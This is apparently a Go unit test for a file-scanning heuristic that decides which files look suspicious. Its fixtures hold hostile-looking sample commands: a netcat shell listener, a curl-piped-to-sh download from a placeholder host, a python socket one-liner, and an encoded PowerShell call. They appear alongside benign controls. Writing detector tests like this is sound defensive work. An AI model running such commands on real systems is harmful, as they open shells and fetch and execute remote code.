package heuristics

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/lucid-vigil/fileguard/pkg/testutil"
)

func TestScanner_Suspicious(t *testing.T) {
	s, err := NewScanner(nil, zerolog.Nop())
	require.NoError(t, err)

	dir := t.TempDir()
	paths := testutil.WriteFiles(t, dir, map[string]string{
		"revshell.sh":  "#!/bin/bash\nnc -lvp 4444 -e /bin/sh\n",
		"dropper.txt":  "run: curl http://example.invalid/x | sh",
		"py.txt":       "import os; import socket",
		"python.txt":   "python3 -c 'import socket,subprocess'",
		"notes.txt":    "groceries: eggs, milk, bread",
		"late.txt":     strings.Repeat("a", MaxScanBytes) + "wget http://example.invalid",
		"encoded.ps1":  "powershell -enc SQBFAFgA",
		"decode.sh":    "echo Zm9v | base64 -d",
		"nospace.conf": "curlrc=1",
	})

	cases := map[string]bool{
		"revshell.sh":  true,
		"dropper.txt":  true,
		"py.txt":       false,
		"python.txt":   true,
		"notes.txt":    false,
		"late.txt":     false,
		"encoded.ps1":  true,
		"decode.sh":    true,
		"nospace.conf": false,
	}
	for name, want := range cases {
		assert.Equal(t, want, s.Suspicious(paths[name]), name)
	}

	assert.False(t, s.Suspicious(filepath.Join(dir, "missing")))
}

func TestNewScanner_BadPattern(t *testing.T) {
	_, err := NewScanner([]string{"("}, zerolog.Nop())
	assert.Error(t, err)
}
